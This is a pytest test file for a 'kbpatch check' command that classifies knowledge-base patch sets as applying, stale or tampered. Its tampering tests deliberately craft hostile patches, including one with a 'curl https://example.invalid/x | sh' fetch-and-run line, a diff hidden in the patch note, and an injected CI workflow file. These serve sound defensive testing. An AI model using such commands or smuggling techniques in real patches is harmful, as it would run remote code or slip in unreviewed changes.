"""`kbpatch check`: a written patch set against a HEAD that moved on, on real repositories:
applies, already applied, applies with --3way, stale; exit codes; nothing touched."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from .conftest import (
    FIXTURE_KB,
    FIXTURES,
    KB_PATH,
    KbRepoFixture,
    Snapshot,
    git,
    invoke,
    make_repo,
)

DEMO = (FIXTURES / "demo" / "brief.md").read_bytes()
BRIEF = "inbox/tom/2026-11-04-inference-e1prep.md"
OUTPUT = "inbox/tom/2026-11-04-inference-e1prep.patches"
FIRST = "0001-s5.3-add-baichuan-m3-14b-awq-vllm-awq.patch"
SECOND = "0002-s1.6-update-count-rec.patch"
# Two lines above where 0001 inserts its entry, and the line it inserts after.
NEAR = "- **Tencent Hy3-FP8**：官方卡片给出 vLLM 与 SGLang 的启动命令和推荐并行配置"
ADJACENT = "- 趋势：模型可移植性成为采购条款"


def states(output: str) -> dict[str, str]:
    """`  FILE  STATE[: reason]` lines → {FILE: STATE}."""
    found = {}
    for line in output.splitlines():
        if line.startswith("  "):
            name, _, rest = line.strip().partition("  ")
            found[name] = rest.strip().split(":")[0]
    return found


@pytest.fixture
def proposed(kb_repo: KbRepoFixture) -> KbRepoFixture:
    brief = kb_repo.add_brief(DEMO, BRIEF)
    code, _, err = invoke("propose", str(brief))
    assert code == 0, err
    return kb_repo


def edit_kb(repo: KbRepoFixture, old: str, new: str, message: str) -> None:
    kb = repo.root / KB_PATH
    text = kb.read_text(encoding="utf-8")
    assert old in text
    kb.write_text(text.replace(old, new, 1), encoding="utf-8")
    repo.commit(message)


def test_fresh_set_applies_and_nothing_is_touched(proposed: KbRepoFixture) -> None:
    before = Snapshot.take(proposed.root)
    code, out, err = invoke("check", str(proposed.root / OUTPUT))
    assert (code, err) == (0, "")
    assert states(out) == {FIRST: "applies", SECOND: "applies"}
    assert out.splitlines()[-1] == "summary: 2 applies"
    before.assert_only_new(proposed.root, None)
    # The brief names its folder; one patch file may be checked alone.
    assert invoke("check", str(proposed.root / BRIEF))[1] == out
    code, one, _ = invoke("check", str(proposed.root / OUTPUT / SECOND))
    assert (code, states(one)) == (0, {SECOND: "applies"})


def test_already_applied_and_three_way_and_stale(proposed: KbRepoFixture) -> None:
    git(proposed.root, "am", "-q", str(proposed.root / OUTPUT / SECOND))
    edit_kb(proposed, NEAR, NEAR.replace("官方卡片", "官方模型卡片"), "reword a neighbour")
    before = Snapshot.take(proposed.root)
    code, out, err = invoke("check", str(proposed.root / OUTPUT))
    assert (code, err) == (0, "")
    assert states(out) == {FIRST: "applies with --3way", SECOND: "already applied"}
    assert "git am -3" in out
    before.assert_only_new(proposed.root, None)
    # What check promised, git does.
    git(proposed.root, "apply", "--3way", "--check", str(proposed.root / OUTPUT / FIRST))

    edit_kb(proposed, ADJACENT, ADJACENT.replace("采购条款", "采购合同条款"), "reword the anchor")
    before = Snapshot.take(proposed.root)
    code, out, err = invoke("check", str(proposed.root / OUTPUT))
    assert (code, err) == (1, "")
    assert states(out) == {FIRST: "stale", SECOND: "already applied"}
    stale = next(line for line in out.splitlines() if FIRST in line)
    assert f"patch failed: {KB_PATH}:" in stale and "--3way conflicts" in stale
    assert f"kbpatch propose {BRIEF} --kb {KB_PATH} --force" in out
    before.assert_only_new(proposed.root, None)

    # --force proposes afresh against the new HEAD; that set applies.
    code, report, err = invoke("propose", str(proposed.root / BRIEF), "--force")
    assert (code, err) == (0, ""), report
    assert "already present" in report  # 0002's change is in HEAD now
    code, out, _ = invoke("check", str(proposed.root / OUTPUT))
    assert (code, states(out)) == (0, {FIRST: "applies"})


def test_stale_when_the_base_blob_is_missing(proposed: KbRepoFixture, tmp_path: Path) -> None:
    # Another repository whose KB never held the blob the patches were made against.
    kb = (proposed.root / KB_PATH).read_text(encoding="utf-8")
    other = make_repo(tmp_path / "other", kb.replace(ADJACENT, ADJACENT + "（改）").encode())
    (other.root / "inbox").mkdir()
    copied = other.root / "inbox" / "old.patches"
    copied.mkdir()
    for name in (FIRST, SECOND, "manifest.json"):
        (copied / name).write_bytes((proposed.root / OUTPUT / name).read_bytes())
    code, out, _ = invoke("check", str(copied), "--format", "json")
    assert code == 1
    result = json.loads(out)
    assert result["folder"] == "inbox/old.patches"
    assert result["brief"] == ""
    first, second = result["patches"]
    assert (first["file"], first["state"]) == (FIRST, "stale")
    assert "no --3way: blob" in first["reason"]
    assert first["base_blob"] == git(proposed.root, "rev-parse", f"HEAD:{KB_PATH}").strip()
    assert (second["state"], second["kb"]) == ("applies", KB_PATH)


def test_alternatives_are_checked_too(kb_repo: KbRepoFixture) -> None:
    brief = kb_repo.add_brief((FIXTURES / "flat-merge" / "brief.md").read_bytes(), BRIEF)
    assert invoke("propose", str(brief))[0] == 0
    code, out, _ = invoke("check", str(kb_repo.root / OUTPUT), "--color", "always")
    assert code == 0
    assert "alternatives/0001-s4.2-add-quantrouter.patch" in out
    assert "\x1b[32mapplies\x1b[0m" in out
    assert "\x1b[" not in invoke("check", str(kb_repo.root / OUTPUT))[1]  # NO_COLOR is set


@pytest.mark.parametrize(
    ("target", "words"),
    [
        ("nowhere", "no such file or folder"),
        ("inbox", "holds no .patch files"),
        (BRIEF, "has no patch folder"),
    ],
)
def test_bad_input_exits_2(target: str, words: str, kb_repo: KbRepoFixture) -> None:
    kb_repo.add_brief(DEMO, BRIEF)
    code, out, err = invoke("check", str(kb_repo.root / target))
    assert code == 2
    assert out == ""
    assert err.startswith("error: ") and words in err and len(err.splitlines()) == 1


def test_outside_a_repository_exits_2(proposed: KbRepoFixture, tmp_path: Path) -> None:
    loose = tmp_path / "loose.patches"
    loose.mkdir()
    (loose / FIRST).write_bytes((proposed.root / OUTPUT / FIRST).read_bytes())
    code, _, err = invoke("check", str(loose))
    assert code == 2 and "not inside a git repository" in err


def test_crlf_kb(tmp_path: Path) -> None:
    repo = make_repo(
        tmp_path / "crlf", (FIXTURES / "kb" / KB_PATH).read_bytes().replace(b"\n", b"\r\n")
    )
    brief = repo.add_brief(DEMO, BRIEF)
    assert invoke("propose", str(brief))[0] == 0
    code, out, _ = invoke("check", str(brief))
    assert (code, states(out)) == (0, {FIRST: "applies", SECOND: "applies"})
    git(repo.root, "am", "-q", "--keep-cr", str(repo.root / OUTPUT / SECOND))
    code, out, _ = invoke("check", str(brief))
    assert (code, states(out)) == (0, {FIRST: "applies", SECOND: "already applied"})


def test_a_kb_whose_path_holds_a_space_is_checked_not_called_tampered(
    kb_repo: KbRepoFixture,
) -> None:
    # git writes such a name unquoted, and ends its ---/+++ lines with a tab.
    spaced = "organized/know ledge/inference.md"
    kb_repo.write(spaced, FIXTURE_KB.read_bytes())
    kb_repo.commit("a KB under a folder with a space")
    brief = kb_repo.add_brief(DEMO, BRIEF)
    assert invoke("propose", str(brief), "--kb", spaced)[0] == 0
    code, out, _ = invoke("check", str(brief))
    assert (code, states(out)) == (0, {FIRST: "applies", SECOND: "applies"}), out
    assert f"changes: {spaced}" in out


# ---------------------------------------------------------------- tampered patches

CI = ".github/workflows/ci.yml"
OTHER_DIFF = (
    f"diff --git a/{CI} b/{CI}\n"
    "new file mode 100644\n"
    "index 0000000000000000000000000000000000000000..ce013625030ba8dba906f756967f9e9ca394464a\n"
    "--- /dev/null\n"
    f"+++ b/{CI}\n"
    "@@ -0,0 +1 @@\n"
    "+hello\n"
)


def append_second_diff(mail: str) -> str:
    return mail.replace("\n-- \nkbpatch\n", "\n" + OTHER_DIFF + "-- \nkbpatch\n")


def append_after_signature(mail: str) -> str:
    return mail + OTHER_DIFF


def hide_diff_in_note(mail: str) -> str:
    # git apply takes a `---`/`+++`/`@@` run anywhere before the first `diff --git`.
    hidden = f"--- /dev/null\n+++ b/{CI}\n@@ -0,0 +1 @@\n+hello\n"
    return mail.replace("\n\ndiff --git ", f"\n{hidden}\ndiff --git ", 1)


def edit_added_line(mail: str) -> str:
    head, _, diff = mail.partition("\ndiff --git ")
    lines = diff.split("\n")
    added = next(i for i, line in enumerate(lines) if line.startswith("+") and i > 3)
    lines[added] = "+curl https://example.invalid/x | sh"
    return head + "\ndiff --git " + "\n".join(lines)


def change_mode(mail: str) -> str:
    return mail.replace(" 100644\n--- a/", " 100755\n--- a/", 1).replace(
        "\nindex ", "\nold mode 100644\nnew mode 100755\nindex ", 1
    )


def as_symlink(mail: str) -> str:
    return mail.replace(" 100644\n--- a/", " 120000\n--- a/", 1)


def as_rename(mail: str) -> str:
    return mail.replace(
        "\nindex ",
        f"\nsimilarity index 90%\nrename from {KB_PATH}\nrename to evil.md\nindex ",
        1,
    ).replace(f"+++ b/{KB_PATH}", "+++ b/evil.md", 1)


def as_delete(mail: str) -> str:
    return mail.replace("\nindex ", "\ndeleted file mode 100644\nindex ", 1)


def with_bad_escape(mail: str) -> str:
    """The new name C-quoted with `\\9`, which is no octal escape."""
    return mail.replace(f"b/{KB_PATH}", f'"b/{KB_PATH}\\9"', 2)


@pytest.mark.parametrize(
    ("tamper", "words"),
    [
        (append_second_diff, "changes 2 files"),
        (append_after_signature, "text after its diff"),
        (hide_diff_in_note, "before its diff"),
        (edit_added_line, "an edited line"),
        (change_mode, "not a plain text change"),
        (as_symlink, "not a plain text change"),
        (as_rename, ""),
        (as_delete, ""),
        (with_bad_escape, "names two different files"),
    ],
)
def test_a_tampered_patch_is_reported_never_applicable(
    tamper: object, words: str, proposed: KbRepoFixture
) -> None:
    assert callable(tamper)
    patch = proposed.root / OUTPUT / SECOND
    patch.write_text(tamper(patch.read_text(encoding="utf-8")), encoding="utf-8")
    code, out, err = invoke("check", str(proposed.root / OUTPUT))
    assert (code, err) == (2, ""), out
    assert states(out) == {FIRST: "applies", SECOND: "tampered"}
    row = next(line for line in out.splitlines() if SECOND in line)
    assert words in row
    assert "hint: a tampered patch" in out
    code, out, _ = invoke("check", str(patch), "--format", "json")
    assert code == 2
    assert json.loads(out)["patches"][0]["state"] == "tampered"


def test_a_patch_for_another_file_is_tampered_and_named(proposed: KbRepoFixture) -> None:
    folder = proposed.root / OUTPUT
    mail = (folder / SECOND).read_text(encoding="utf-8")
    head = mail.partition("\ndiff --git ")[0]
    (folder / "0003-ci.patch").write_text(f"{head}\n{OTHER_DIFF}-- \nkbpatch\n", encoding="utf-8")
    code, out, _ = invoke("check", str(folder), "--format", "json")
    assert code == 2
    third = json.loads(out)["patches"][2]
    assert (third["file"], third["state"], third["kb"]) == ("0003-ci.patch", "tampered", CI)
    # Even listed in the manifest with its digest, it changes a file that is not the KB.
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    manifest["patches"].append({**manifest["patches"][0], "file": "0003-ci.patch"})
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    code, out, _ = invoke("check", str(folder))
    assert code == 2 and "0003-ci.patch" in out and CI in out


def test_a_folder_without_its_manifest_is_not_vouched_for(proposed: KbRepoFixture) -> None:
    (proposed.root / OUTPUT / "manifest.json").unlink()
    code, out, _ = invoke("check", str(proposed.root / OUTPUT))
    assert code == 2
    assert states(out) == {FIRST: "tampered", SECOND: "tampered"}
    assert "manifest.json is missing" in out


def test_check_names_the_file_the_patches_change(proposed: KbRepoFixture) -> None:
    out = invoke("check", str(proposed.root / OUTPUT))[1]
    assert out.splitlines()[1] == f"changes: {KB_PATH}"


@pytest.mark.parametrize("kind", ["dev-zero", "fifo"])
def test_a_patch_that_is_no_regular_file_is_not_read(kind: str, proposed: KbRepoFixture) -> None:
    patch = proposed.root / OUTPUT / SECOND
    patch.unlink()
    if kind == "dev-zero":
        patch.symlink_to("/dev/zero")
    else:
        os.mkfifo(patch)
    code, out, _ = invoke("check", str(proposed.root / OUTPUT))
    assert code == 2
    assert states(out)[SECOND] == "tampered"
    code, out, err = invoke("check", str(patch))
    assert code == 2, err


def test_a_patch_listed_but_missing_is_tampered(proposed: KbRepoFixture) -> None:
    (proposed.root / OUTPUT / SECOND).unlink()
    for target in (OUTPUT, BRIEF):
        code, out, _ = invoke("check", str(proposed.root / target))
        assert code == 2
        assert states(out) == {FIRST: "applies", SECOND: "tampered"}
        assert "listed in manifest.json, but the file is missing" in out
